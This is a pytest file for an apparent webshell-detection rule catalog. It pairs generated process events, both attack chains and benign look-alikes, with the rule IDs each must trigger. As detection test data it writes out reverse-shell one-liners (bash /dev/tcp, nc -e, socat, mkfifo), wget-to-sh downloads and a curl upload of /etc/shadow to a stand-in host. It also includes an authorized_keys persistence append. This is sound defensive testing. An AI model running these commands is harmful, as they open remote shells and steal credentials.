"""A table of process events — webshell chains and benign look-alikes — with the verdict
each must get. Every built-in rule fires on some case and stays quiet on others.

The events are written for this test (generated, not captured); the real captured
samples are tested in tests/ingest.
"""

from __future__ import annotations

import pytest

from secmon.detect.catalog import CATALOG, evaluate
from secmon.domain.process import Ancestor, ProcessEvent

RS, SH, DL, DC, PS, EX, RC = (
    "WBD-RS-001",
    "WBD-SH-001",
    "WBD-DL-001",
    "WBD-DC-001",
    "WBD-PS-001",
    "WBD-EX-001",
    "WBD-RC-001",
)


def ev(
    name: str,
    args: str | None = None,
    parent: str | None = None,
    pargs: str | None = None,
    up: tuple[tuple[str, str], ...] = (),
    exe: str | None = None,
    user: str | None = "www-data",
) -> ProcessEvent:
    return ProcessEvent(
        time=0,
        instance_no="1",
        process_name=name,
        process_arg=args,
        executor=user,
        process_name_of_parent=parent,
        process_arg_of_parent=pargs,
        ancestors=tuple(Ancestor(n, a) for n, a in up),
        exe_path=exe,
    )


PHP = ("php-fpm", "pool www")
CASES: list[tuple[str, ProcessEvent, set[str]]] = [
    # -- web server spawns a shell
    ("php-fpm runs sh -c id", ev("sh", "-c id", *PHP), {SH, RC}),
    ("php-fpm runs bash -c whoami", ev("/bin/bash", "-c whoami", "php-fpm8.2", "pool www"), {SH, RC}),
    ("apache2 runs dash", ev("/usr/bin/dash", "-c ls -la", "/usr/sbin/apache2", "-k start"), {SH}),
    (
        "httpd runs bash (falco event-generator)",
        ev("bash", "-c ls > /dev/null", "httpd", "--loglevel info"),
        {SH},
    ),
    ("nginx runs sh", ev("sh", "-c pwd", "nginx", "worker process"), {SH}),
    ("truncated php-fpm name", ev("sh", "-c uname -a", "php-fpm: pool w", None), {SH, RC}),
    ("lsphp runs sh", ev("sh", "-c ls", "lsphp", None), {SH}),
    ("php-cgi runs sh", ev("sh", "-c ls", "php-cgi", None), {SH}),
    ("uwsgi runs bash", ev("bash", "-c ls", "uwsgi", "--ini app.ini"), {SH}),
    ("gunicorn worker (truncated) runs sh", ev("sh", "-c ls", "gunicorn: worke", None), {SH}),
    (
        "tomcat java runs sh",
        ev("sh", "-c ls", "java", "-Dcatalina.base=/opt/tomcat org.apache.catalina.startup.Bootstrap"),
        {SH},
    ),
    ("jetty java runs bash", ev("bash", "-c ls", "java", "-jar /opt/jetty/start.jar"), {SH}),
    ("wildfly java runs sh", ev("sh", "-c ls", "java", "-D[Standalone] -jar jboss-modules.jar"), {SH}),
    ("node runs sh -c (sysmon sample shape)", ev("/bin/sh", "-c gh auth token", "node", None), {SH}),
    ("puma ruby runs sh", ev("sh", "-c ls", "ruby", "/app/bin/puma -C config/puma.rb"), {SH}),
    ("perl cgi script runs sh", ev("sh", "-c ls", "/usr/lib/cgi-bin/admin.cgi", None), {SH}),
    ("busybox sh under httpd", ev("sh", "-c ls", "httpd", None, exe="/bin/busybox"), {SH}),
    ("zsh under nginx", ev("zsh", None, "nginx", None), {SH}),
    # -- recon
    ("id under php via shell", ev("id", None, "sh", "-c id", up=(PHP,)), {RC}),
    (
        "whoami under apache via bash",
        ev("/usr/bin/whoami", None, "bash", "-c whoami", up=(("apache2", "-k start"),)),
        {RC},
    ),
    ("uname directly under node", ev("uname", "-a", "node", "server.js"), {RC}),
    (
        "cat /etc/passwd under nginx shell",
        ev("cat", "/etc/passwd", "sh", "-c 'cat /etc/passwd'", up=(("nginx", ""),)),
        {RC},
    ),
    ("ifconfig under php", ev("ifconfig", None, "php-fpm", None), {RC}),
    ("netstat under tomcat", ev("netstat", "-antp", "java", "org.apache.catalina.startup.Bootstrap"), {RC}),
    ("ip addr under uwsgi shell", ev("ip", "addr", "sh", "-c 'ip addr'", up=(("uwsgi", ""),)), {RC}),
    ("hostname under gunicorn", ev("hostname", None, "gunicorn", None), {RC}),
    # -- download / exfil
    (
        "curl from php shell",
        ev("curl", "-o /tmp/x http://203.0.113.5/x", "sh", "-c curl ...", up=(PHP,)),
        {DL},
    ),
    ("wget under apache", ev("wget", "http://203.0.113.5/a.sh", "apache2", None), {DL}),
    (
        "sh -c wget | sh under nginx",
        ev("sh", "-c 'wget -qO- http://203.0.113.5/x | sh'", "nginx", None),
        {SH, DL},
    ),
    (
        "curl posting /etc/shadow under php",
        ev("curl", "-F f=@/etc/shadow http://203.0.113.5", "php-fpm", None),
        {DL, RC},
    ),
    # -- decoders and interpreter one-liners
    ("base64 -d under php shell", ev("sh", "-c 'echo aWQ= | base64 -d | sh'", *PHP), {SH, DC}),
    ("python -c under node", ev("python3", "-c 'import os; os.system(\"id\")'", "node", None), {DC}),
    ("perl -e under apache", ev("perl", "-e 'print 1'", "apache2", None), {DC}),
    ("php -r under php-fpm", ev("php", "-r 'echo 1;'", "php-fpm", None), {DC}),
    ("xxd -r under nginx shell", ev("xxd", "-r -p payload.hex", "sh", "-c x", up=(("nginx", ""),)), {DC}),
    # -- reverse shells (fire whatever the parent)
    ("bash -i >& /dev/tcp", ev("bash", "-c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'", *PHP), {RS, SH}),
    ("nc -e under apache", ev("nc", "-e /bin/sh 203.0.113.5 4444", "apache2", None), {RS}),
    ("ncat -c", ev("ncat", "-c sh 203.0.113.5 4444", "sh", "-c x", up=(PHP,)), {RS}),
    (
        "mkfifo pipe shell",
        ev(
            "sh",
            "-c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.5 80 >/tmp/f'",
            "nginx",
            None,
        ),
        {RS, SH},
    ),
    (
        "python socket one-liner",
        ev("python", "-c 'import socket,subprocess;s=socket.socket()'", "node", None),
        {RS, DC},
    ),
    ("perl socket one-liner", ev("perl", "-e 'use Socket;$i=\"203.0.113.5\"'", "apache2", None), {RS, DC}),
    (
        "php fsockopen one-liner",
        ev("php", "-r '$s=fsockopen(\"203.0.113.5\",80);'", "php-fpm", None),
        {RS, DC},
    ),
    ("socat exec", ev("socat", "tcp:203.0.113.5:4444 exec:sh,pty", "sh", "-c x", up=(PHP,)), {RS}),
    (
        "reverse shell outside any web server",
        ev("bash", "-i >& /dev/tcp/203.0.113.5/4444 0>&1", "cron", None, user="root"),
        {RS},
    ),
    # -- persistence
    ("crontab from php shell", ev("crontab", "-l", "sh", "-c 'crontab -l'", up=(PHP,)), {PS}),
    (
        "authorized_keys append under apache",
        ev("sh", "-c 'echo ssh-rsa AAAA >> /root/.ssh/authorized_keys'", "apache2", None),
        {SH, PS},
    ),
    # -- executables from writable directories
    ("binary from /tmp under php", ev("/tmp/.x/miner", None, *PHP), {EX}),
    ("binary from /dev/shm run by www-data", ev("/dev/shm/kworker", None, "init", None), {EX}),
    ("binary from the web root under nginx", ev("/var/www/html/uploads/x", None, "nginx", None), {EX}),
    # -- benign look-alikes: must stay quiet
    ("php-fpm runs wkhtmltopdf directly", ev("wkhtmltopdf", "in.html out.pdf", *PHP), set()),
    (
        "php exec() of wkhtmltopdf via sh -c",
        ev("sh", "-c 'wkhtmltopdf /tmp/in.html /tmp/out.pdf'", *PHP),
        set(),
    ),
    (
        "php exec() of ghostscript via sh -c",
        ev("sh", "-c 'gs -sDEVICE=pdfwrite -o out.pdf in.ps'", *PHP),
        set(),
    ),
    ("php exec() of clamscan via sh -c", ev("sh", "-c 'clamscan --no-summary /tmp/upload'", *PHP), set()),
    ("php exec() of convert via sh -c", ev("sh", "-c 'convert a.png -resize 50% b.png'", *PHP), set()),
    ("php runs clamdscan directly", ev("clamdscan", "--fdpass /tmp/upload", "php-fpm", None), set()),
    ("php runs ffmpeg", ev("ffmpeg", "-i a.mp4 b.webm", "php-fpm", None), set()),
    ("php exec() of sendmail via sh", ev("sh", "-c '/usr/sbin/sendmail -t -i'", *PHP), set()),
    (
        "admin runs id in an ssh session",
        ev("id", None, "bash", None, up=(("sshd", ""),), user="alice"),
        set(),
    ),
    (
        "admin curls from a terminal",
        ev("curl", "https://example.org", "bash", None, up=(("sshd", ""),), user="alice"),
        set(),
    ),
    ("cron runs a backup shell", ev("sh", "-c /usr/local/bin/backup.sh", "cron", None, user="root"), set()),
    ("systemd starts nginx", ev("nginx", "-g daemon off;", "systemd", None, user="root"), set()),
    (
        "nginx master starts a worker",
        ev("nginx", "worker process", "nginx", "master process", user="root"),
        set(),
    ),
    (
        "plain java (not a web server) runs sh",
        ev("sh", "-c ls", "java", "-jar batch-job.jar", user="batch"),
        set(),
    ),
    ("python script (not serving) runs sh", ev("sh", "-c ls", "python3", "etl.py", user="etl"), set()),
    ("uname from a login shell", ev("uname", "-a", "bash", None, up=(("login", ""),), user="bob"), set()),
    (
        "binary from /tmp run by a user's shell",
        ev("/tmp/build/app", None, "bash", None, up=(("sshd", ""),), user="dev"),
        set(),
    ),
    ("php runs git pull via sh (deploy hook)", ev("sh", "-c 'git pull origin main'", *PHP), set()),
    ("web server spawns a non-shell helper", ev("/usr/lib/php/sessionclean", None, "php-fpm", None), set()),
]


@pytest.mark.parametrize(("label", "event", "expected"), CASES, ids=[c[0] for c in CASES])
def test_verdict(label: str, event: ProcessEvent, expected: set[str]) -> None:
    assert {r.rule_id for r in evaluate(event)} == expected


def test_corpus_is_big_enough_and_exercises_every_rule() -> None:
    assert len(CASES) >= 60
    for rule in CATALOG:
        fires = [label for label, _, expected in CASES if rule.rule_id in expected]
        quiet = [label for label, _, expected in CASES if rule.rule_id not in expected]
        assert fires, f"{rule.rule_id} never fires in the corpus"
        assert quiet, f"{rule.rule_id} never stays quiet in the corpus"


def test_most_severe_rule_comes_first() -> None:
    hits = evaluate(ev("bash", "-c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'", *PHP))
    assert hits[0].rule_id == RS


def test_disabled_rules_do_not_fire() -> None:
    event = ev("sh", "-c id", *PHP)
    assert {r.rule_id for r in evaluate(event, enabled=frozenset({RC}))} == {RC}
